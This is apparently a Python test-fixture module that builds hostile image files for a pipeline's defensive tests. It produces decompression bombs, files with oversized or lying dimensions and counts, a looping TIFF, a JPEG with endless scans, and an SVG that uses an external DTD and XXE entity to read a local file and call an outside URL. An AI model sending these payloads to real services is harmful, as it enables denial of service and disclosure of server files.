"""Pictures that are a few bytes on the wire and gigabytes in memory."""

import struct
import zlib
from collections.abc import Iterable

from pipeline.tests.hostile.cases import MIB, Bait, attached


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *, depth: int = 1, rows: Iterable[bytes] = ()) -> bytes:
    packer = zlib.compressobj(9)
    data = b"".join([*[packer.compress(row) for row in rows], packer.flush()])
    head = struct.pack(">IIBBBBB", width, height, depth, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


@attached("png-of-900-megapixels", "a.png", "image", "too-large", "no-ocr")
def huge_png(bait: Bait) -> bytes:
    return png(30_000, 30_000, rows=[bytes(3751)] * bait.of(30_000, 1000))


@attached("png-of-4-billion-by-4-billion", "a.png", "image", "too-large", "damaged", "no-ocr")
def endless_png(_: Bait) -> bytes:
    return png(2**31 - 1, 2**31 - 1)


@attached("png-just-below-the-limit", "a.png")
def large_png(bait: Bait) -> bytes:
    """40 megapixels of checks: allowed, and as slow to read as can be."""
    side = bait.of(6300, 100)
    even, odd = b"\0" + b"\xaa" * (side // 8 + 1), b"\0" + b"\x55" * (side // 8 + 1)
    return png(side, side, rows=[even, odd] * (side // 2))


@attached("png-of-noise", "a.png", "image", "image-no-text", "no-ocr")
def noisy_png(bait: Bait) -> bytes:
    side = bait.of(2400, 320)
    return png(side, side, rows=(b"\0" + bait.chance.randbytes(side // 8) for _ in range(side)))


@attached("png-chunks-that-lie", "a.png")
def png_lies(_: Bait) -> bytes:
    good = png(10, 10, rows=[b"\0\0\0"] * 10)
    lie = struct.pack(">I", 0x7FFFFFFF) + b"zTXt" + b"a\0\0"
    return good[:33] + lie + good[33:]


@attached("png-text-bomb", "a.png")
def png_text(bait: Bait) -> bytes:
    good = png(10, 10, rows=[b"\0\0\0"] * 10)
    bomb = zlib.compress(bytes(bait.of(900, 8) * MIB), 9)
    texts = chunk(b"zTXt", b"a\0\0" + bomb) + chunk(b"iCCP", b"a\0\0" + bomb)
    return good[:33] + texts + good[33:]


@attached("gif-with-100000-frames", "a.gif")
def many_frames(bait: Bait) -> bytes:
    head = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\0"
    return head + frame * bait.of(100_000, 2000) + b";"


@attached("gif-of-65535-by-65535", "a.gif")
def huge_gif(_: Bait) -> bytes:
    head = b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0) + b"\x02\x02\x44\x01\0"
    return head + frame + b";"


def tiff(entries: list[tuple[int, int, int, int]], follow: int) -> bytes:
    lines = b"".join(struct.pack("<HHII", *each) for each in entries)
    return b"II*\0" + struct.pack("<IH", 8, len(entries)) + lines + struct.pack("<I", follow)


@attached("tiff-that-loops", "a.tif")
def looping_tiff(_: Bait) -> bytes:
    size = [(256, 3, 1, 10), (257, 3, 1, 10), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1)]
    place = [(273, 4, 1, 8), (278, 3, 1, 10), (279, 4, 1, 100)]
    return tiff([*size, *place], 8) + bytes(200)


@attached("tiff-counts-that-lie", "a.tif")
def tiff_lies(_: Bait) -> bytes:
    size = [(256, 4, 1, 0xFFFFFFF), (257, 4, 1, 0xFFFFFFF), (258, 3, 0xFFFFFFFF, 8)]
    place = [(273, 4, 0x3FFFFFFF, 8), (279, 4, 0x3FFFFFFF, 8), (330, 4, 0xFFFFFF, 8)]
    return tiff([*size, (259, 3, 1, 5), *place], 8) + bytes(200)


@attached("tiff-of-1000-pages", "a.tif")
def many_tiff_pages(bait: Bait) -> bytes:
    """Each page is a thousand pixels square, and all show the same bytes."""
    pages = bait.of(1000, 1)
    fields = 9
    step = 2 + 12 * fields + 4
    data = 8 + pages * step
    out = [b"II*\0" + struct.pack("<I", 8)]
    for n in range(pages):
        lines = [(256, 3, 1, 1000), (257, 3, 1, 1000), (258, 3, 1, 1), (259, 3, 1, 1)]
        lines += [(262, 3, 1, 1), (273, 4, 1, data), (277, 3, 1, 1), (278, 3, 1, 1000)]
        lines += [(279, 4, 1, 125_000)]
        follow = 8 + (n + 1) * step if n + 1 < pages else 0
        packed = b"".join(struct.pack("<HHII", *each) for each in lines)
        out.append(struct.pack("<H", fields) + packed + struct.pack("<I", follow))
    return b"".join([*out, bytes(125_000)])


@attached("jpeg-of-65500-by-65500", "a.jpg")
def huge_jpeg(_: Bait) -> bytes:
    frame = struct.pack(">HBHHB", 17, 8, 65500, 65500, 3) + b"\1\x11\0\2\x11\0\3\x11\0"
    return b"\xff\xd8\xff\xc2" + frame + b"\xff\xda\0\x0c\3\1\0\2\0\3\0\0\x3f\0" + bytes(5000)


@attached("jpeg-of-endless-scans", "a.jpg")
def many_scans(bait: Bait) -> bytes:
    """A progressive picture is drawn once for every scan that it announces."""
    side = bait.of(4000, 60)
    tables = b"\xff\xdb\0\x43\0" + b"\1" * 64
    tables += (
        b"\xff\xc4\0\x14\0\1" + bytes(15) + b"\0" + b"\xff\xc4\0\x14\x10\1" + bytes(15) + b"\0"
    )
    frame = b"\xff\xc2" + struct.pack(">HBHHB", 11, 8, side, side, 1) + b"\1\x11\0"
    scan = b"\xff\xda\0\x08\1\1\0\0\0\0" + bytes(8)
    return b"\xff\xd8" + tables + frame + scan * bait.of(100_000, 200) + b"\xff\xd9"


@attached("bmp-of-4-gigabytes", "a.bmp")
def huge_bmp(_: Bait) -> bytes:
    info = struct.pack("<IiiHHIIiiII", 40, 2**31 - 1, -(2**31 - 1), 1, 32, 0, 0, 0, 0, 0, 0)
    return b"BM" + struct.pack("<IHHI", 2**32 - 1, 0, 0, 54) + info + bytes(100)


@attached("svg-that-calls-home", "a.svg")
def svg(bait: Bait) -> bytes:
    url, secret = bait.url.encode(), bait.secret.encode()
    doctype = b'<!DOCTYPE svg SYSTEM "%bdtd" [<!ENTITY x SYSTEM "file://%b">]>' % (url, secret)
    return (
        b'<?xml version="1.0"?>%b<svg xmlns="http://www.w3.org/2000/svg"><script>1</script>'
        b'<image href="%ba.png"/><text>&x;</text>%b</svg>' % (doctype, url, b"<g>" * 50_000)
    )


@attached("webp-that-lies", "a.webp")
def webp(bait: Bait) -> bytes:
    head = b"VP8X" + struct.pack("<IB3x", 10, 2) + b"\xff\xff\xff\xff\xff\xff"
    frames = b"ANMF" + struct.pack("<I", 0xFFFFFFFF) + bait.chance.randbytes(500)
    return b"RIFF" + struct.pack("<I", 0xFFFFFFFF) + b"WEBP" + head + frames
